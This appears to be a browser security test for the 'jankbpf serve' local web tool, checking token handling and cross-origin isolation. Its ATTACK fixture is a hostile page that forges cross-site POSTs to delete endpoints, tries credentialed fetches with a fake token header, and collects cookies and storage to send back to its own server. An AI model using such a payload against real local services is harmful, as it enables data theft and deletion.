#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Who may ask `jankbpf serve`, in a headless Chromium that has its page open: another server on another port of 127.0.0.1, which
may belong to another user, gets no secret, reads nothing and deletes nothing."""
import http.server
import json
import os
import shutil
import sys
import tempfile
import threading

sys.dont_write_bytecode = True
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [HERE, os.path.join(HERE, "..", "lib"), os.path.join(HERE, "..", "replay", "reference")]
import driver  # noqa: E402
import outputs  # noqa: E402
import replay  # noqa: E402
from serve import Serve, until  # noqa: E402

READY = "document.documentElement.dataset.ready === '1' && document.querySelector('.live-dot.live')"
# All that a page can try; the texts that it gets go to its own server.
ATTACK = """<!DOCTYPE html><title>another server</title><iframe src="URL/"></iframe><img src="URL/share?seq=1&as=json">
<form method="post" action="URL/delete?upto=99" target="frame"><input name="a" value="b"></form><iframe name="frame"></iframe>
<script>
const seen = [document.cookie, JSON.stringify(Object.entries(sessionStorage)), JSON.stringify(Object.entries(localStorage))];
const ways = [{}, { credentials: "include" }, { mode: "no-cors", credentials: "include" },
  { credentials: "include", headers: { "X-Jankbpf-Token": "0".repeat(32) } }];
document.forms[0].submit();
(async () => {
  for (const path of ["/data", "/events", "/share?seq=1&as=json"])
    for (const way of ways) seen.push(await fetch("URL" + path, way).then((answer) => answer.text()).catch(() => ""));
  for (const path of ["/delete?upto=99", "/delete?seq=1", "/read?upto=99"])
    for (const way of ways) seen.push(await fetch("URL" + path, { method: "POST", ...way }).then((answer) => answer.text()).catch(() => ""));
  await fetch("/seen", { method: "POST", body: seen.join("|") });
  document.title = "done";
})();
</script>"""


class Other:
    """A server on another port that keeps all it gets."""

    def __init__(self, url):
        self.got = got = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                body = ATTACK.replace("URL", url).encode()
                self.rfile.read(int(self.headers.get("Content-Length", 0))) if self.command == "GET" else None
                self.take(b"")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):  # noqa: N802
                self.take(self.rfile.read(int(self.headers.get("Content-Length", 0))))
                self.send_response(204)
                self.end_headers()

            def take(self, body):
                got.append(f"{self.requestline}\n{self.headers}\n{body.decode()}")

            def log_message(self, *_args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


class Check:
    def __init__(self):
        self.tap, self.browser = replay.Tap(), driver.Browser()
        self.folder = tempfile.mkdtemp(prefix="jank-serve-token-")
        self.records = replay.records(outputs.read("redis", outputs.RECORDS))
        self.blocks = [record for record in self.records if record["type"] == "block"]
        self.dir = os.path.join(self.folder, "blocks")
        os.mkdir(self.dir, 0o700)
        with open(self.dir + "/blocks.jsonl", "w", encoding="utf-8") as file:
            file.writelines(json.dumps(record) + "\n" for record in self.records)
        self.serve = Serve([replay.JANKBPF], self.dir)

    def wait(self, expression, what):
        self.tap.check(until(lambda: self.browser.run(expression)), what,
                       self.browser.run("document.body ? document.body.innerText.slice(0, 300) : ''"))

    def own_page(self):
        self.browser.visit(self.serve.url)
        self.wait(READY, "the printed address opens the page")
        self.tap.check(self.browser.run("location.href").find(self.serve.token) < 0, "the token leaves the address bar")
        self.tap.check(self.browser.run("document.cookie") == "" and not self.browser.cdp("Network.getAllCookies")["cookies"],
                       "no cookie has it")
        self.browser.visit(self.serve.url.partition("#")[0])
        self.wait(READY, "a reload of the tab needs no token in the address")

    def downloads(self):
        folder = os.path.join(self.folder, "downloads")
        os.mkdir(folder)
        self.browser.cdp("Browser.setDownloadBehavior", behavior="allow", downloadPath=folder)
        self.browser.click(".block .say")
        seq = self.browser.run("location.hash") and self.serve.blocks()[-1][0]
        self.browser.run("[...document.querySelectorAll('.actions button')].find((node) => node.textContent === 'JSON').click()")
        found = until(lambda: [name for name in os.listdir(folder) if name.endswith(".json")])
        with open(os.path.join(folder, found[0]), "rb") if found else open(os.devnull, "rb") as file:
            saved = file.read()
        self.tap.check(found and saved == self.serve.ask(f"/share?seq={seq}&as=json")[2], "a block is saved as a file", found, len(saved))

    def other_server(self):
        other = Other(self.serve.url.partition("/#")[0])
        self.browser.visit(other.url)
        self.wait("document.title === 'done'", "the page of another server tries all it can")
        said = "\n".join(other.got)
        other.stop()
        seen = next((one for one in other.got if one.startswith("POST /seen")), "")
        self.tap.check(seen and self.serve.token not in said and "ookie" not in said, "it gets no secret", said[:2000])
        self.tap.check(not any(block["id"] in said for block in self.blocks) and set(seen.rpartition("\n")[2]) <= set("|[]"),
                       "it reads nothing", seen[-300:])
        ids = [one for _, one, _ in self.serve.blocks()]
        self.tap.check(ids == [block["id"] for block in self.blocks] and not any(read for _, _, read in self.serve.blocks()[:-1]),
                       "it deletes nothing, and marks nothing", ids)

    def tokens(self):
        stranger = driver.Browser()
        stranger.visit(self.serve.url.partition("#")[0])
        page = until(lambda: stranger.run("document.querySelector('.troubles') && document.body.innerText"))
        self.tap.check(page and "#token=" in page and stranger.run("document.querySelectorAll('.block').length") == 0,
                       "without the token the page has no data, and says where it is", page)
        stranger.close()
        self.browser.visit(self.serve.url.partition("#")[0])
        self.wait(READY, "the first tab still has it")
        port = self.serve.port
        self.serve.stop()
        self.serve = Serve([replay.JANKBPF], self.dir, listen=f"127.0.0.1:{port}")
        self.wait("document.querySelector('.serve-bar').innerText.includes('started anew')", "a new server has a new token, and the page says so")
        self.browser.run("location.assign(arguments[0])", self.serve.url)
        self.wait(READY, "its address, opened in the same tab, works")

    def run(self):
        try:
            self.own_page()
            self.downloads()
            self.other_server()
            self.tokens()
        finally:
            self.serve.stop()
            self.browser.close()
            shutil.rmtree(self.folder, ignore_errors=True)
        self.tap.end()


Check().run()
